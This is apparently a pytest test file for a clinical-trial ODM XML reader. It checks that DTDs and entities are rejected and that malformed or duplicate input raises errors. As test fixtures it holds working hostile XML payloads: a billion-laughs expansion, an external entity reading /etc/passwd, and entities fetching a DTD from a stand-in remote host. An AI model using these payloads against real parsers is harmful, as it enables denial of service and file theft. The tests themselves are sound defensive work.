"""Hostile ODM input: entity expansion and external entities are rejected before reading."""
from __future__ import annotations

import pytest

from cdisc_dm.errors import RawInputError
from cdisc_dm.raw import read_odm_tables, read_raw, read_table

_ODM_OPEN = '<ODM xmlns="http://www.cdisc.org/ns/odm/v1.3" FileType="Snapshot" FileOID="F" CreationDateTime="2021-01-01T00:00:00" ODMVersion="1.3.2">'

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE ODM [\n <!ENTITY lol "lol">\n'
    + "".join(f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10))
    + "]>\n"
    + _ODM_OPEN
    + '<ClinicalData StudyOID="S" MetaDataVersionOID="M"><SubjectData SubjectKey="&lol9;"/></ClinicalData></ODM>\n'
)
LOCAL_FILE = (
    '<?xml version="1.0"?>\n<!DOCTYPE ODM [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    + _ODM_OPEN
    + '<ClinicalData StudyOID="S" MetaDataVersionOID="M"><SubjectData SubjectKey="x">&xxe;</SubjectData></ClinicalData></ODM>\n'
)
NETWORK = (
    '<?xml version="1.0"?>\n<!DOCTYPE ODM [<!ENTITY % remote SYSTEM "http://198.51.100.7/evil.dtd"> %remote;]>\n'
    + _ODM_OPEN
    + "</ODM>\n"
)
EXTERNAL_DTD = '<?xml version="1.0"?>\n<!DOCTYPE ODM SYSTEM "http://198.51.100.7/odm.dtd">\n' + _ODM_OPEN + "</ODM>\n"


@pytest.mark.parametrize(
    "text", [BILLION_LAUGHS, LOCAL_FILE, NETWORK, EXTERNAL_DTD], ids=["billion-laughs", "file-entity", "network-entity", "external-dtd"]
)
def test_dtd_and_entities_are_rejected(tmp_path, text):
    path = tmp_path / "ODM.xml"
    path.write_text(text, encoding="utf-8")
    for read in (read_odm_tables, read_table, read_raw):
        with pytest.raises(RawInputError) as err:
            read(path)
        assert "DTDs and entities are not accepted in ODM input" in str(err.value)
        assert str(path) in str(err.value)
        assert "root:" not in str(err.value)   # nothing of /etc/passwd leaks into the message


def test_hostile_file_in_a_folder_is_rejected(tmp_path):
    (tmp_path / "odm").mkdir()
    (tmp_path / "odm" / "ODM.xml").write_text(LOCAL_FILE, encoding="utf-8")
    with pytest.raises(RawInputError, match="DTDs and entities are not accepted"):
        read_raw(tmp_path)


def test_doctype_after_a_long_prolog_is_still_rejected(tmp_path, monkeypatch):
    """The byte pre-check reads a bounded prolog; the parser's own check is the second line."""
    import cdisc_dm.raw.odm as odm

    monkeypatch.setattr(odm, "_PROLOG_BYTES", 16)
    path = tmp_path / "ODM.xml"
    path.write_text(LOCAL_FILE, encoding="utf-8")
    with pytest.raises(RawInputError, match="DTDs and entities are not accepted"):
        read_odm_tables(path)


def test_malformed_xml_is_an_error_with_the_line(tmp_path):
    path = tmp_path / "ODM.xml"
    path.write_text('<?xml version="1.0"?>\n' + _ODM_OPEN + "\n<Study>\n</ODM>\n", encoding="utf-8")
    with pytest.raises(RawInputError, match="not well-formed XML") as err:
        read_odm_tables(path)
    assert err.value.location.line is not None


def test_non_odm_root_is_an_error(tmp_path):
    path = tmp_path / "other.xml"
    path.write_text('<?xml version="1.0"?>\n<root/>\n', encoding="utf-8")
    with pytest.raises(RawInputError, match="ODM in namespace http://www.cdisc.org/ns/odm/v1.3"):
        read_odm_tables(path)


def test_two_values_for_one_item_are_an_error(tmp_path):
    meta = (
        '<Study OID="S"><GlobalVariables><StudyName>S</StudyName><StudyDescription>S</StudyDescription>'
        '<ProtocolName>S</ProtocolName></GlobalVariables><MetaDataVersion OID="M" Name="M">'
        '<StudyEventDef OID="V1" Name="Visit 1" Repeating="No" Type="Scheduled"/>'
        '<FormDef OID="DM" Name="Demographics" Repeating="No"><ItemGroupRef ItemGroupOID="IG.DM" Mandatory="No"/></FormDef>'
        '<ItemGroupDef OID="IG.DM" Name="DM" Repeating="No"><ItemRef ItemOID="DM.SEX" Mandatory="No"/></ItemGroupDef>'
        '<ItemDef OID="DM.SEX" Name="SEX" DataType="text"/></MetaDataVersion></Study>'
    )
    data = (
        '<ClinicalData StudyOID="S" MetaDataVersionOID="M"><SubjectData SubjectKey="01-0001">'
        '<StudyEventData StudyEventOID="V1"><FormData FormOID="DM"><ItemGroupData ItemGroupOID="IG.DM">'
        '<ItemData ItemOID="DM.SEX" Value="F"/><ItemData ItemOID="DM.SEX" Value="M"/>'
        "</ItemGroupData></FormData></StudyEventData></SubjectData></ClinicalData>"
    )
    path = tmp_path / "ODM.xml"
    path.write_text('<?xml version="1.0"?>\n' + _ODM_OPEN + meta + data + "</ODM>\n", encoding="utf-8")
    with pytest.raises(RawInputError, match="DM.SEX appears twice in one ItemGroupData .subject 01-0001"):
        read_odm_tables(path)
    # and a well-formed single value reads back
    path.write_text(path.read_text(encoding="utf-8").replace('<ItemData ItemOID="DM.SEX" Value="M"/>', ""), encoding="utf-8")
    (dm,) = read_odm_tables(path)
    assert dm.data["SEX"].tolist() == ["F"] and dm.data["InstanceName"].tolist() == ["Visit 1"]
    assert dm.data["DataPageName"].tolist() == ["Demographics"]
